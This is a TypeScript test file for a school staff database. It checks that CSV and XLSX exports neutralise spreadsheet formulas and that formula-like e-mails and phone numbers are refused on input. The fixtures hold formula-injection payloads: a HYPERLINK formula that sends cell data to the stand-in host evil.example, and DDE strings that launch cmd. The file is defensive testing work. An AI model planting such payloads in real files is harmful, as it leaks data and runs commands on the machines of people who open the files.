import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ValidationFailed } from '../../core/base/errors.js';
import { exportRows } from '../../core/exports/export-rows.js';
import { describeProblem, translator } from '../../core/i18n/i18n.js';
import { formatImportErrors } from '../../core/imports/format-errors.js';
import { ImportFailed } from '../../core/imports/import-failed.js';
import { readTable } from '../../core/imports/read-table.js';
import { Staff } from '../../core/people/staff.entity.js';
import { createRecord, createSchool, importer, type SchoolFixture } from '../support/import-school.js';
import { createTestCore, type TestCore } from '../support/test-core.js';

const FORMULA_START = /^[=+\-@\t\r]/;
const csvFile = (lines: string[]) => Buffer.from(`\uFEFF${lines.join('\r\n')}\r\n`, 'utf8');
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|', '-2+3+cmd|'];

/** Every cell of a CSV as written (not through our import, which takes the neutralising quote off). */
function csvCells(file: Buffer): string[][] {
  return parse(file.toString('utf8').replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true });
}

async function xlsxCells(file: Buffer): Promise<ExcelJS.CellValue[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(file as never);
  const values: ExcelJS.CellValue[] = [];
  workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void values.push(cell.value)));
  return values;
}

/**
 * Issue 12, point 4: the CSV export wrote `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)` and `-2+3…` as they were, in
 * e-mails and positions. Every text cell of every CSV and XLSX is now neutralised by one function, and
 * e-mails and phones that look like formulas are refused on input, in the panel and in imports.
 */
describe('CSV and XLSX exports neutralise formulas; contacts are validated on input', () => {
  let t: TestCore;
  let school: SchoolFixture;

  beforeAll(async () => {
    t = await createTestCore();
    school = await createSchool(t.core, 'Школа формул');
    for (const [i, position] of PAYLOADS.entries()) {
      await createRecord(t.core, 'Staff', { school: school.schoolId, lastName: `Формулова${'абвг'[i]}`, firstName: 'Анна', position, phone: `+7 900 100-00-0${i}`, roles: ['teacher'] });
    }
    // Stored before input was checked (or by hand): a tab and a carriage return in front.
    await t.orm.em.fork().getConnection().execute(`update staff set email = ?, middle_name = ? where last_name = 'Формуловаа'`, ['\t=1+1@x.ru', '\r=2+2']);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('writes no CSV cell that a spreadsheet would read as a formula', async () => {
    const cells = csvCells(await t.core.exportList('Staff', importer, 'csv', { schoolId: school.schoolId })).flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
    expect(cells).toContain("'\t=1+1@x.ru");
    expect(cells).toContain("'\r=2+2");
    expect(cells).toContain("'+7 900 100-00-01");
  });

  it('writes no XLSX text cell that starts like a formula, and keeps numbers and dates as such', async () => {
    const values = await xlsxCells(await t.core.exportList('Staff', importer, 'xlsx', { schoolId: school.schoolId }));
    expect(values.filter((v) => typeof v === 'string' && FORMULA_START.test(v))).toEqual([]);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
    for (const payload of PAYLOADS) expect(values).toContain(`'${payload}`);
    // The ids are numbers, not text.
    expect(values.filter((v) => typeof v === 'number').length).toBeGreaterThanOrEqual(PAYLOADS.length);
  });

  it('keeps numbers numbers: -5 stays -5 in CSV and a number in XLSX; text that merely is a number is left alone', async () => {
    const rows = [{ n: -5, text: '-5', sum: '-5+cmd|', day: '2026-09-01' }];
    const columns = [{ key: 'n', title: 'n' }, { key: 'text', title: 'text' }, { key: 'sum', title: '=title' }, { key: 'day', title: 'day' }];
    const csv = csvCells(await exportRows(rows, columns, 'csv'));
    expect(csv).toEqual([['n', 'text', "'=title", 'day'], ['-5', '-5', "'-5+cmd|", '2026-09-01']]);
    const xlsx = await xlsxCells(await exportRows(rows, columns, 'xlsx'));
    expect(xlsx.slice(4)).toEqual([-5, '-5', "'-5+cmd|", new Date('2026-09-01T00:00:00Z')]);
  });

  it('reads its own export back as it was: the neutralising quote is taken off on import', async () => {
    const table = await readTable(await t.core.exportList('Staff', importer, 'csv', { schoolId: school.schoolId }), 'csv');
    const phones = table.rows.map((r) => r.cells['Телефон']);
    expect(phones).toContain('+7 900 100-00-01');
    expect(table.rows.map((r) => r.cells['Должность'])).toEqual(expect.arrayContaining(PAYLOADS));
  });

  it('refuses e-mails and phones that look like formulas, next to the field, in the panel\'s record service', async () => {
    const err = await t.core.unitOfWork(() => t.core.records.create('Guardian', {
      school: school.schoolId, lastName: 'Опасная', firstName: 'Вера', email: '-2+3@x.ru', phone: '=1+2',
    }, importer)).then(() => undefined, (e: unknown) => e);
    expect(err).toBeInstanceOf(ValidationFailed);
    const ru = translator(t.core.i18n, 'ru');
    expect((err as ValidationFailed).problems.map((p) => [p.field, describeProblem(ru, p)])).toEqual([
      ['email', '«-2+3@x.ru» — неверный адрес электронной почты.'],
      ['phone', '«=1+2» — неверный номер телефона.'],
    ]);
  });

  it('refuses them in an import too, with the line and the column, and imports nothing', async () => {
    const err = await t.core.importTable('staff', csvFile([
      'Фамилия;Имя;Отчество;Должность;Роли;E-mail;Телефон',
      'Чистова;Анна;Ивановна;Учитель;учитель;chistova@school.example;+7 900 100-00-09',
      'Грязнова;Анна;Ивановна;Учитель;учитель;"=HYPERLINK(""http://evil.example"")@a.ru";-2+3+cmd|',
    ]), 'csv', importer, { schoolId: school.schoolId }).then(() => undefined, (e: unknown) => e);
    expect(err).toBeInstanceOf(ImportFailed);
    expect(formatImportErrors(translator(t.core.i18n, 'ru'), err as ImportFailed)).toEqual([
      'Строка 3: E-mail: «=HYPERLINK("http://evil.example")@a.ru» — неверный адрес электронной почты.',
      'Строка 3: Телефон: «-2+3+cmd|» — неверный номер телефона.',
    ]);
    expect(await t.orm.em.fork().count(Staff, { lastName: 'Чистова' })).toBe(0);
  });
});
